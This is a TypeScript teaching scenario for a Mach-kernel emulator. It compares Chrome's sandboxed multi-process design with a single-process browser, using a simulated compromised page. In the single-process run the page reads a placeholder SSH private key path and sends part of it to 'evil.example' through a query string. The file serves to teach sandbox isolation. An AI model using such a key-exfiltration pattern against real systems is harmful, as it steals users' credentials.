/**
 * Chrome's process model: processes for isolation, Mach capabilities for the
 * sandbox. A browser process (the user interface, and the only task holding
 * send rights to a file service and a network service) forks one renderer per
 * site and one plug-in process per plug-in type, each with a send right to the
 * browser and nothing else (`fork(…, { share: [browser] })`); each then locks
 * itself down, giving up its bootstrap port (no name service) and its kernel
 * port (every system call but the three traps is a message to it: Linux's
 * seccomp-bpf, in Mach terms). Tabs: news and mail (with plug-ins), evil (a
 * compromised renderer tries to reach the services and another renderer:
 * guessing names in its own space, which are task-local, the name service,
 * links by pid, asking the browser) and crash (its renderer crashes on frame 2:
 * the browser hears of it by a dead-name notification and shows the crashed
 * tab; the other tabs keep painting). Then the same workload in a single
 * process: the evil page reads the private key, and the crash loses every tab.
 *
 *   npx tsx scenarios/chrome.ts [--seed N] [--only summary|table|mermaid] [--trace]
 *
 * The seed sets how long each frame takes to render. `runChrome` and
 * `runSingleProcess` are exported for test/chrome.test.ts.
 */
import { pathToFileURL } from 'node:url';
import { boot, codeName, focus, KERN_NO_ACCESS, KERN_SUCCESS, MIG_BAD_ID, renderMermaid, renderTable } from '../index.ts';
import type { BootOptions, Kernel, RunReport, Sys, TraceRecord } from '../index.ts';
import { parseArgs } from './args.ts';

/** A tab of the workload: its site, the plug-in its page embeds, and what goes wrong in it (`crashOnFrame`: a layout bug). */
export interface Site { site: string; plugin?: string; compromised?: boolean; crashOnFrame?: number }

export const SITES: readonly Site[] = [
  { site: 'news.example', plugin: 'video' },
  { site: 'mail.example', plugin: 'pdf' },
  { site: 'evil.example', compromised: true },
  { site: 'crash.example', crashOnFrame: 2 },
];
export const FRAMES = 3;
const FRAME_MS = 10;
export const SECRET = '/home/user/.ssh/id_rsa';
const FILES: Record<string, string> = { [SECRET]: '-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1r…' };
const short = (site: string) => site.split('.')[0]!;

// Message ids. Services: READ, FETCH. The browser's interface for its children: HELLO, NAVIGATE,
// OPEN_FILE, PLUGIN, FRAME, DONE. The browser to a child: RUN (a plug-in's work), QUIT.
const READ = 1000, FETCH = 1010;
const HELLO = 2000, NAVIGATE = 2001, OPEN_FILE = 2002, PLUGIN = 2003, FRAME = 2004, DONE = 2005;
const RUN = 3000, QUIT = 3001;

/** What a tab looked like when the browser closed (or lost) it; `why`: how a crashed tab's renderer ended. */
export interface TabEnd { site: string; frames: number; state: 'open' | 'crashed' | 'lost'; why?: string }

/** What a try aimed at, as the report names it. */
export type Target = 'file service' | 'network service' | 'another renderer' | 'another site' | 'the browser' | 'nothing';

/**
 * One try of the compromised page to reach something it was not given: the code it got (KERN_SUCCESS
 * with what it reached), the name it sent to or the pid it linked to (their target is filled in after the run).
 */
export interface Attempt { how: string; target: Target; code: number; got?: string; name?: number; pid?: number }

/**
 * The scenario's notebook: what the tasks report to the person running it.
 * It lives outside the emulated machine; no task reads it.
 */
export interface Journal {
  tabs: TabEnd[];
  attempts: Attempt[];
  /** Each sandboxed process's space after its lockdown (`name label (rights)`), and the browser's names (labels). */
  spaces: Record<string, string[]>;
  browserNames: Record<number, string>;
}

/** A finished run. */
export interface ChromeRun { kernel: Kernel<Sys>; report: RunReport; journal: Journal }

type Boot = (options?: Omit<BootOptions, 'seed'>) => Kernel<Sys>;
const plainBoot = (seed: number): Boot => (options = {}) => boot({ console: false, ...options, seed });

/** The two services: a file server and a network server, each answering one routine. */
function services(k: Kernel<Sys>) {
  const [files, net] = [k.port('files'), k.port('network')];
  const serve = (answer: (body: { path?: string; url?: string }) => object) => async (sys: Sys) => {
    for (;;) {
      const r = await sys.msg_receive<{ path?: string; url?: string }>(sys.ports.inbox!);
      if (!r.ok) return 1;
      await sys.compute(1);
      await sys.msg_send(r.msg.reply, { id: r.msg.id + 100, body: answer(r.msg.body) });
    }
  };
  const read = (b: { path?: string }) => (b.path! in FILES ? { code: KERN_SUCCESS, text: FILES[b.path!] } : { code: KERN_NO_ACCESS });
  k.spawn('files', serve(read), { daemon: true, ports: { inbox: { port: files, right: 'receive' } } });
  k.spawn('network', serve((b) => ({ code: KERN_SUCCESS, html: `<h1>${new URL(b.url!).host}</h1>` })), { daemon: true, ports: { inbox: { port: net, right: 'receive' } } });
  return { files, net };
}

/**
 * A sandboxed child's first steps: its own port (a make-send right goes to the
 * browser in a hello), then the lockdown: drop the bootstrap and kernel ports.
 * Returns its port, the names it still holds, and its space as `name label (rights)`.
 */
async function lockdown(sys: Sys, browser: number, label: string): Promise<{ chan: number; held: number[]; space: string[] }> {
  const { name: chan } = await sys.port_allocate('receive', label);
  await sys.msg_send(browser, { id: HELLO, body: { hello: label }, rights: [{ name: chan!, disposition: 'make-send' }] });
  await sys.port_deallocate(sys.bootstrapPort);
  const names = ((await sys.port_names()).names ?? []).filter((n) => n.name !== sys.kernelPort);
  await sys.port_deallocate(sys.kernelPort);
  return { chan: chan!, held: names.map((n) => n.name), space: names.map((n) => `${n.name} ${n.label} (${n.rights.join(', ')})`) };
}

/**
 * The compromised page's exploit, run inside its renderer after the lockdown:
 * every name it does not hold, the name service, a direct link to every pid,
 * and two requests the browser must refuse.
 */
async function exploit(sys: Sys, held: readonly number[], browser: number, journal: Journal): Promise<void> {
  sys.log('exploit: the page takes over its renderer and tries every way out');
  const group: Attempt[] = [];
  const tried = (a: Attempt) => void (journal.attempts.push(a), group.push(a));
  const told = (what: string) => sys.log(`exploit: ${what}: ${codes(group.splice(0))}`);
  const read = { id: READ, body: { path: SECRET } };
  for (let name = 1; name <= 20; name++) {
    if (!held.includes(name)) tried({ how: `msg_send to name ${name}`, target: 'nothing', name, code: await sys.msg_send(name, read, { timeout: 0 }) });
  }
  told('every name from 1 to 20 it does not hold');
  tried({ how: 'netname_look_up("files")', target: 'file service', code: (await sys.netname_look_up('files')).code });
  tried({ how: 'netname_look_up("network")', target: 'network service', code: (await sys.netname_look_up('network')).code });
  told('the name service');
  for (let pid = 1; pid <= 9; pid++) {
    if (pid !== sys.pid) tried({ how: `send(${pid}, …): a direct link by pid`, target: 'nothing', pid, code: await sys.send(pid, read.body, { block: false }) });
  }
  told('direct links to pids 1 to 9');
  tried({ how: `asks the browser to open ${SECRET}`, target: 'file service', code: (await sys.call(browser, OPEN_FILE, { path: SECRET })).code });
  tried({ how: 'asks the browser for https://mail.example/', target: 'another site', code: (await sys.call(browser, NAVIGATE, { url: 'https://mail.example/' })).code });
  told('asking the browser for a file and another site');
}

/** What a name in the browser's space, or a pid, denotes: filled into the tries after the run. */
function classify(k: Kernel<Sys>, journal: Journal): void {
  const what = (label: string): Target =>
    label === 'files' ? 'file service' : label === 'network' ? 'network service' : label === 'browser' ? 'the browser' : label.startsWith('renderer-') ? 'another renderer' : 'nothing';
  for (const a of journal.attempts) {
    if (a.name !== undefined) a.target = what(journal.browserNames[a.name] ?? '');
    if (a.pid !== undefined) a.target = what(k.tasks.get(a.pid)?.name ?? '');
  }
}

/** A renderer: one site's page, in a process of its own. */
const renderer = (journal: Journal) => async (sys: Sys, tab: Site & { browser: number }) => {
  const { chan, held, space } = await lockdown(sys, tab.browser, `renderer-${short(tab.site)}`);
  journal.spaces[`renderer-${short(tab.site)}`] = space;
  const page = await sys.call(tab.browser, NAVIGATE, { url: `https://${tab.site}/` });
  if (page.code !== KERN_SUCCESS) return 1;
  for (let n = 1; n <= FRAMES; n++) {
    if (tab.compromised && n === 1) await exploit(sys, held, tab.browser, journal);
    if (n === tab.crashOnFrame) throw new Error(`segmentation fault in layout (${tab.site}, frame ${n})`);
    if (tab.plugin) await sys.call(tab.browser, PLUGIN, { type: tab.plugin, frame: n });
    await sys.compute(2 + Math.floor(sys.random() * 4));
    await sys.msg_send(tab.browser, { id: FRAME, body: { n } });
    if (n < FRAMES) await sys.msg_receive(chan, { timeout: FRAME_MS });
  }
  await sys.msg_send(tab.browser, { id: DONE, body: { done: tab.site } });
  await sys.msg_receive(chan); // until the browser closes the tab (QUIT)
  return 0;
};

/** A plug-in process: one per plug-in type, sandboxed like a renderer. */
const plugin = (journal: Journal) => async (sys: Sys, p: { type: string; browser: number }) => {
  const { chan, space } = await lockdown(sys, p.browser, `plugin-${p.type}`);
  journal.spaces[`plugin-${p.type}`] = space;
  for (;;) {
    const r = await sys.msg_receive<{ frame: number }>(chan);
    if (!r.ok || r.msg.id === QUIT) return 0;
    await sys.compute(1);
    await sys.msg_send(r.msg.reply, { id: RUN + 100, body: { code: KERN_SUCCESS, out: `${p.type} frame ${r.msg.body.frame}` } });
  }
};

interface Child { pid: number; key: string; chan: number; frames: number; state: 'loading' | 'done' | 'crashed'; why?: string }

/**
 * Runs the multi-process browser on a kernel of its own: the browser, a
 * renderer per site, a plug-in process per type, and the two services.
 * Deterministic by seed.
 *
 * @example
 * const { journal } = await runChrome(1);
 * journal.tabs.filter((t) => t.state === 'open').map((t) => t.site); // ['news.example', 'mail.example', 'evil.example']
 */
export async function runChrome(seed: number, make: Boot = plainBoot(seed)): Promise<ChromeRun> {
  const journal: Journal = { tabs: [], attempts: [], spaces: {}, browserNames: {} };
  const k = make();
  const { files, net } = services(k);
  const ui = k.port('browser', { qlimit: 32 });
  k.spawn('browser', async (sys) => {
    const me = sys.ports.ui!;
    const byPid = new Map<number, Child>();
    const byChan = new Map<number, Child>();
    const plugins = new Map<string, Child>();
    const tabs: Child[] = [];
    const start = async (program: (s: Sys, d: never) => unknown, data: object, name: string, daemon: boolean) => {
      const f = await sys.fork(program, { data: { ...data, browser: me } as never, share: [me], name, daemon });
      const c: Child = { pid: f.pid!, key: name, chan: 0, frames: 0, state: 'loading' };
      byPid.set(c.pid, c);
      return c;
    };
    const hello = async (m: { sender: number; rights: { name: number }[] }) => {
      const c = byPid.get(m.sender)!;
      c.chan = m.rights[0]!.name;
      byChan.set(c.chan, c);
      await sys.port_request_notification(c.chan, 'dead-name', me); // its death comes to the browser's own port
      if (tabs.length === SITES.length && tabs.every((t) => t.chan !== 0)) {
        for (const n of (await sys.port_names()).names ?? []) journal.browserNames[n.name] = n.label;
      }
    };
    for (const type of new Set(SITES.flatMap((s) => (s.plugin ? [s.plugin] : [])))) plugins.set(type, await start(plugin(journal), { type }, `plugin-${type}`, true));
    for (let got = 0; got < plugins.size; got++) await hello((await sys.msg_receive(me)).msg!);
    for (const s of SITES) tabs.push(await start(renderer(journal), s, `renderer-${short(s.site)}`, false));
    while (tabs.some((t) => t.state === 'loading')) {
      const r = await sys.msg_receive<{ url?: string; type?: string; frame?: number; n?: number; name?: number }>(me);
      if (!r.ok) return 1;
      const m = r.msg;
      const answer = (body: object) => sys.msg_send(m.reply, { id: m.id + 100, body });
      if (m.notification === 'dead-name') {
        const c = byChan.get(m.body.name!);
        if (!c) continue;
        const ended = await sys.wait(c.pid);
        c.state = 'crashed';
        c.why = ended.status?.error ?? ended.status?.reason ?? '?';
        sys.log(`${c.key} died (${c.why})${tabs.includes(c) ? ': its tab shows "Aw, Snap!"; the other tabs go on' : ''}`);
        continue;
      }
      const c = byPid.get(m.sender);
      const site = c ? SITES[tabs.indexOf(c)]?.site : undefined;
      if (!c) {
        if (m.reply) await answer({ code: MIG_BAD_ID });
      } else if (m.id === HELLO) await hello(m);
      else if (m.id === NAVIGATE) {
        // Site isolation: a renderer loads only its own site.
        const mine = site !== undefined && new URL(m.body.url ?? 'x:').host === site;
        if (!mine) sys.log(`refused: ${c.key} asked for ${m.body.url}`);
        await answer(mine ? await sys.call(sys.ports.net!, FETCH, { url: m.body.url! }) : { code: KERN_NO_ACCESS });
      } else if (m.id === OPEN_FILE) {
        sys.log(`refused: ${c.key} asked to open a file`); // only files the user picks in the browser's own dialog
        await answer({ code: KERN_NO_ACCESS });
      } else if (m.id === PLUGIN) {
        const p = plugins.get(m.body.type ?? '');
        await answer(p && p.state === 'loading' ? await sys.call(p.chan, RUN, { frame: m.body.frame }) : { code: KERN_NO_ACCESS });
      } else if (m.id === FRAME) c.frames = m.body.n!;
      else if (m.id === DONE) c.state = 'done';
      else if (m.reply) await answer({ code: MIG_BAD_ID });
    }
    tabs.forEach((t, i) => journal.tabs.push({ site: SITES[i]!.site, frames: t.frames, state: t.state === 'done' ? 'open' : 'crashed', ...(t.why ? { why: t.why } : {}) }));
    // Close the tabs and the plug-ins: each one's port dies as it ends (dead-name), then reap it.
    const closing = [...tabs, ...plugins.values()].filter((c) => c.state !== 'crashed');
    for (const c of closing) await sys.msg_send(c.chan, { id: QUIT, body: 'quit' });
    for (let left = closing.length; left > 0; ) {
      const r = await sys.msg_receive<{ name: number }>(me);
      if (r.ok && r.msg.notification === 'dead-name' && byChan.has(r.msg.body.name)) left--;
    }
    for (const c of closing) await sys.wait(c.pid);
    return 0;
  }, { ports: { ui: { port: ui, right: 'receive' }, uiSend: ui, files, net } });
  const report = await k.run();
  classify(k, journal);
  return { kernel: k, report, journal };
}

/**
 * The same workload in one process: the browser renders every tab itself,
 * with its own rights to the services. The evil page's code runs with those
 * rights; the crashing page takes the whole browser down.
 *
 * @example
 * const { journal } = await runSingleProcess(1);
 * journal.tabs.map((t) => t.state); // ['lost', 'lost', 'lost', 'lost']
 */
export async function runSingleProcess(seed: number, make: Boot = plainBoot(seed)): Promise<ChromeRun> {
  const journal: Journal = { tabs: SITES.map((s) => ({ site: s.site, frames: 0, state: 'lost' })), attempts: [], spaces: {}, browserNames: {} };
  const k = make();
  const { files, net } = services(k);
  k.spawn('browser', async (sys) => {
    const pages: string[] = [];
    for (let n = 1; n <= FRAMES; n++) {
      for (const [i, tab] of SITES.entries()) {
        if (n === 1) pages[i] = String((await sys.call(sys.ports.net!, FETCH, { url: `https://${tab.site}/` })).html);
        if (tab.compromised && n === 1) {
          const key = await sys.call(sys.ports.files!, READ, { path: SECRET });
          journal.attempts.push({ how: `reads ${SECRET} through the browser's right`, target: 'file service', code: key.code, got: String(key.text) });
          const out = await sys.call(sys.ports.net!, FETCH, { url: `https://evil.example/?key=${encodeURIComponent(String(key.text).slice(0, 12))}` });
          journal.attempts.push({ how: 'sends the key to evil.example', target: 'network service', code: out.code, got: 'the key, sent out' });
          const mail = await sys.call(sys.ports.net!, FETCH, { url: 'https://mail.example/' });
          journal.attempts.push({ how: 'fetches https://mail.example/', target: 'another site', code: mail.code, got: String(mail.html) });
          journal.attempts.push({ how: "reads mail.example's page in memory", target: 'another renderer', code: KERN_SUCCESS, got: pages[1] ?? '' });
          sys.log('exploit: read the private key and sent it out, fetched mail.example, read the mail tab: one process, one set of rights');
        }
        if (n === tab.crashOnFrame) throw new Error(`segmentation fault in layout (${tab.site}, frame ${n})`);
        if (tab.plugin) await sys.compute(1);
        await sys.compute(2 + Math.floor(sys.random() * 4));
        journal.tabs[i]!.frames = n;
      }
      await sys.sleep(FRAME_MS);
    }
    journal.tabs.forEach((t) => (t.state = 'open'));
    return 0;
  }, { ports: { files, net } });
  const report = await k.run();
  return { kernel: k, report, journal };
}

/** "MACH_SEND_INVALID_DEST ×16, KERN_NO_ACCESS" for a list of tries. */
function codes(tries: readonly Attempt[]): string {
  const n = new Map<string, number>();
  for (const a of tries) n.set(codeName(a.code), (n.get(codeName(a.code)) ?? 0) + 1);
  return Array.from(n, ([c, k]) => (k > 1 ? `${c} ×${k}` : c)).join(', ');
}

/** "1, 4, 7–20": numbers as runs. */
function runs(xs: readonly number[]): string {
  const out: string[] = [];
  for (let i = 0; i < xs.length; i++) {
    let j = i;
    while (j + 1 < xs.length && xs[j + 1] === xs[j]! + 1) j++;
    out.push(j > i + 1 ? `${xs[i]}–${xs[j]}` : j === i + 1 ? `${xs[i]}, ${xs[j]}` : `${xs[i]}`);
    i = j;
  }
  return out.join(', ');
}

const TARGETS: Target[] = ['file service', 'network service', 'another renderer', 'another site'];
const alive = (run: ChromeRun) => run.journal.tabs.filter((t) => t.state === 'open');

/**
 * The two runs side by side: processes, tabs alive, frames painted, what the
 * crash ended, and who could reach what. One line per row.
 *
 * @example
 * compareRuns(multi, single)[2] // '  tabs alive at the end             3 of 4: news, mail, evil    …    0 of 4'
 */
export function compareRuns(multi: ChromeRun, single: ChromeRun): string[] {
  const reach = (run: ChromeRun, target: Target) => {
    const tries = run.journal.attempts.filter((a) => a.target === target);
    const hit = tries.find((a) => a.code === KERN_SUCCESS);
    if (hit) return `yes: ${hit.got!.length > 24 ? `${hit.got!.slice(0, 23)}…` : hit.got}`;
    return tries.length === 0 ? '(not tried)' : `no: ${codes(tries)}`;
  };
  const procs = (run: ChromeRun) => {
    const names = Array.from(run.kernel.tasks.values(), (t) => t.name).filter((n) => n !== 'files' && n !== 'network');
    const count = (p: string) => names.filter((n) => n.startsWith(p)).length;
    return names.length === 1 ? 'browser' : `browser, ${count('renderer-')} renderers, ${count('plugin-')} plug-ins`;
  };
  const frames = (run: ChromeRun) => run.journal.tabs.map((t) => `${short(t.site)} ${t.frames}`).join(', ');
  const browserEnd = single.report.tasks.find((t) => t.name === 'browser')?.exit;
  const rows: [string, string, string][] = [
    ['', 'multi-process (Chrome)', 'single process'],
    ['processes (besides the services)', procs(multi), procs(single)],
    ['tabs alive at the end', ...([multi, single].map((r) => `${alive(r).length} of ${r.journal.tabs.length}${alive(r).length ? ': ' : ''}${alive(r).map((t) => short(t.site)).join(', ')}`) as [string, string])],
    ['frames painted', frames(multi), frames(single)],
    ["crash.example's crash ends", 'its renderer: "Aw, Snap!" in its tab', browserEnd?.reason === 'error' ? 'the whole browser: every tab' : 'nothing'],
    ...TARGETS.map((t): [string, string, string] => [`evil page → ${t.startsWith('another') ? t : `the ${t}`}`, reach(multi, t), reach(single, t)]),
  ];
  const w0 = Math.max(...rows.map((r) => r[0].length)) + 2;
  const w1 = Math.max(...rows.map((r) => r[1].length)) + 3;
  return rows.map(([a, b, c]) => `  ${a.padEnd(w0)}${b.padEnd(w1)}${c}`.trimEnd());
}

/** What the compromised renderer tried, grouped, with what its guesses mean in the browser's space. */
export function describeAttempts(multi: ChromeRun): string[] {
  const j = multi.journal;
  const evil = multi.report.tasks.find((t) => t.name === 'renderer-evil')!;
  const byName = j.attempts.filter((a) => a.name !== undefined);
  const byPid = j.attempts.filter((a) => a.pid !== undefined);
  const named = (target: Target) => runs(byName.filter((a) => a.target === target).map((a) => a.name!));
  const fileName = Object.keys(j.browserNames).find((n) => j.browserNames[Number(n)] === 'files');
  const own = (j.spaces['renderer-evil'] ?? []).find((s) => s.startsWith(`${fileName} `));
  const lines = [
    `The compromised renderer (renderer-evil, pid ${evil.pid}) tries to reach what it was not given:`,
    `  msg_send to every name from 1 to 20 it does not hold (${runs(byName.map((a) => a.name!))}): ${codes(byName)}`,
    `    in the browser's space, ${named('network service')} is the network service and ${named('another renderer')} are other renderers'`,
    `    ports and kernel ports; ${fileName}, the browser's name for the file service, is ${own ? `its own port here (${own.split(' ')[1]})` : 'nothing here'}: names are task-local`,
  ];
  for (const a of j.attempts.filter((x) => x.name === undefined && x.pid === undefined && x.how.startsWith('netname'))) {
    lines.push(`  ${a.how}: ${codeName(a.code)} (its bootstrap right is gone)`);
  }
  lines.push(`  send(pid, …) to pids ${runs(byPid.map((a) => a.pid!))} (a direct link is made by a kernel call; its kernel port is gone): ${codes(byPid)}`);
  for (const a of j.attempts.filter((x) => x.how.startsWith('asks'))) {
    lines.push(`  ${a.how}: ${codeName(a.code)} (${a.target === 'another site' ? 'site isolation' : "the browser's policy"})`);
  }
  return lines;
}

async function main(): Promise<void> {
  const args = parseArgs(`Chrome's processes: a browser, a sandboxed renderer per site, a plug-in process per type; a compromised
renderer refused (MACH_SEND_INVALID_DEST), a crashed one losing only its tab; beside a single-process browser.`);
  const show = (part: 'summary' | 'table' | 'mermaid') => args.only === null || args.only === part;
  const multi = await runChrome(args.seed, args.boot);
  const single = await runSingleProcess(args.seed, args.boot);
  if (show('summary')) {
    console.log(`Chrome's process model — seed ${args.seed}. Tabs: ${SITES.map((s) => `${s.site}${s.plugin ? ` (${s.plugin} plug-in)` : s.compromised ? ' (compromised)' : s.crashOnFrame ? ` (crashes on frame ${s.crashOnFrame})` : ''}`).join(', ')}; ${FRAMES} frames each.\n`);
    console.log(compareRuns(multi, single).join('\n'));
    console.log(`\nEach sandboxed process's space after its lockdown (port_names; kernel and bootstrap ports given up):`);
    for (const [who, space] of Object.entries(multi.journal.spaces)) console.log(`  ${who.padEnd(15)} ${space.join(', ')}`);
    console.log(`\n${describeAttempts(multi).join('\n')}`);
    console.log('\nThe browser, multi-process:');
    for (const r of multi.kernel.trace.records) if (r.kind === 'log' && r.task === 'browser') console.log(`  t=${r.t} ${r.detail}`);
    const died = multi.kernel.trace.records.find((r) => r.kind === 'notify' && r.op === 'dead-name' && r.peerTask === 'browser')?.t ?? Infinity;
    const later = multi.kernel.trace.records.filter((r) => r.kind === 'receive' && r.task === 'browser' && r.msgId === FRAME && r.t > died).length;
    console.log(`  after t=${died}, the other tabs painted ${later} more frames`);
    const tabs = multi.journal.tabs.map((t) => (t.state === 'open' ? `[${t.site} ✓ ${t.frames} frames]` : `[${t.site} Aw, Snap!]`));
    console.log(`  tabs: ${tabs.join(' ')}`);
    const end = single.kernel.trace.records.find((r) => r.kind === 'exit' && r.task === 'browser');
    console.log(`The browser, single process:\n  t=${end?.t} ended (${end?.detail}): every tab lost`);
  }
  const story = (records: readonly TraceRecord[]) =>
    focus(records).filter((r) => (r.task === 'renderer-evil' && r.kind === 'return') || ['log', 'exit', 'notify'].includes(r.kind));
  if (show('table')) {
    console.log('\nTrace, multi-process: the refused tries, the crash and the dead-name notification:');
    console.log(renderTable(args.fullTrace ? multi.kernel.trace.records : story(multi.kernel.trace.records)));
    console.log('\nTrace, single process:');
    console.log(renderTable(args.fullTrace ? single.kernel.trace.records : story(single.kernel.trace.records)));
  }
  if (show('mermaid')) {
    // The story without the refused sends one by one (the table has them; the exploit's log lines sum them up) and the frame timer.
    const records = focus(multi.kernel.trace.records).filter((r) => !(r.task === 'renderer-evil' && r.kind === 'return') && r.kind !== 'timeout' && r.kind !== 'wake');
    console.log(`\n${renderMermaid(records, { title: `Chrome, multi-process, seed ${args.seed}` })}`);
  }
}

if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(process.argv[1]).href) await main();
